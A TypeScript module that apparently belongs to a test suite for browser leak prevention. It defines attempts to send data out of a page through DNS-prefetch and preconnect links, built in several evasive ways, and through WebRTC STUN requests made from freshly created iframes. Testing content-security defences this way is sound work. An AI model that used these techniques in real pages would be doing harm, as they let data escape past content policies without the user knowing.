import { type LeakAttempt, type LeakTarget, PAGE } from './attempt.ts';

function named(name: string, run: (target: LeakTarget) => unknown): LeakAttempt {
  // A headless Chromium looks none of them up without a name server of its own, which the suite of three engines has.
  return { name: `name-${name}`, row: 23, contexts: PAGE, arrivesAt: 'recorder', blind: true, run };
}

function framed(name: string, run: (target: LeakTarget) => unknown): LeakAttempt {
  return { name: `rtc-${name}`, row: 10, contexts: PAGE, arrivesAt: 'listener', run };
}

/** Ways to have the name of a host looked up, which carries data by itself, and to a fresh window by text. */
export const BY_NAME: readonly LeakAttempt[] = [
  named('dns-prefetch', ({ address }) => {
    const link = document.createElement('link');
    link.rel = 'dns-prefetch';
    link.href = address;
    document.head.append(link);
  }),
  named('preconnect', ({ secure }) => {
    const link = document.createElement('link');
    link.rel = 'preconnect';
    link.href = secure;
    document.head.append(link);
  }),
  named('copied-link', ({ secure }) => {
    const link = document.querySelector('link')?.cloneNode() as HTMLLinkElement;
    link.rel = 'preconnect';
    link.href = secure;
    document.head.append(link);
  }),
  named('copied-link-looked-up', ({ address }) => {
    const link = document.importNode(document.querySelector('link')!);
    link.rel = 'dns-prefetch';
    link.href = address;
    document.head.append(link);
  }),
  named('changed-link', ({ address }) => {
    const link = document.querySelector('link')!;
    link.rel = 'dns-prefetch';
    link.href = address;
    document.head.append(link);
  }),
  named('link-of-text', ({ secure }) => {
    document.body.insertAdjacentHTML('beforeend', `<link rel="preconnect" href="${secure}">`);
  }),
  named('link-of-another-document', ({ secure }) => {
    const link = document.implementation.createHTMLDocument('').createElement('link');
    link.rel = 'preconnect';
    link.href = secure;
    document.head.append(link);
  }),
  named('link-of-a-class', ({ secure }) => {
    const Made = class extends HTMLLinkElement {};
    customElements.define('leak-link', Made, { extends: 'link' });
    const link = new Made();
    link.rel = 'preconnect';
    link.href = secure;
    document.head.append(link);
  }),
  named('anchor', ({ address }) => {
    const anchor = document.createElement('a');
    anchor.href = address;
    anchor.textContent = 'x';
    document.body.append(anchor);
  }),
  named('anchor-allowed', ({ address }) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'x-dns-prefetch-control';
    meta.content = 'on';
    document.head.append(meta);
    const anchor = document.createElement('a');
    anchor.href = address;
    anchor.textContent = 'x';
    document.body.append(anchor);
  }),
  framed('frame-of-text', async ({ listener }) => {
    document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>');
    let Fresh: typeof RTCPeerConnection | undefined;
    for (let at = 0; at < window.length && Fresh === undefined; at++) {
      try {
        Fresh = (window[at] as unknown as typeof globalThis).RTCPeerConnection;
      } catch {
        // A frame of another host, which another attempt made.
      }
    }
    if (Fresh === undefined) return;
    const connection = new Fresh({ iceServers: [{ urls: `stun:${listener}` }] });
    connection.createDataChannel('x');
    await connection.setLocalDescription(await connection.createOffer());
  }),
  framed('frame-of-a-template', async ({ listener }) => {
    const template = document.createElement('template');
    template.innerHTML = '<iframe></iframe>';
    document.body.append(document.importNode(template.content, true));
    let Fresh: typeof RTCPeerConnection | undefined;
    for (let at = 0; at < window.length && Fresh === undefined; at++) {
      try {
        Fresh = (window[at] as unknown as typeof globalThis).RTCPeerConnection;
      } catch {
        // A frame of another host, which another attempt made.
      }
    }
    if (Fresh === undefined) return;
    const connection = new Fresh({ iceServers: [{ urls: `stun:${listener}` }] });
    connection.createDataChannel('x');
    await connection.setLocalDescription(await connection.createOffer());
  }),
  framed('frame-of-parsed-text', async ({ listener }) => {
    const parsed = new DOMParser().parseFromString('<h:iframe xmlns:h="http://www.w3.org/1999/xhtml"/>', 'text/xml');
    document.body.append(parsed.documentElement);
    let Fresh: typeof RTCPeerConnection | undefined;
    for (let at = 0; at < window.length && Fresh === undefined; at++) {
      try {
        Fresh = (window[at] as unknown as typeof globalThis).RTCPeerConnection;
      } catch {
        // A frame of another host, which another attempt made.
      }
    }
    if (Fresh === undefined) return;
    const connection = new Fresh({ iceServers: [{ urls: `stun:${listener}` }] });
    connection.createDataChannel('x');
    await connection.setLocalDescription(await connection.createOffer());
  }),
];
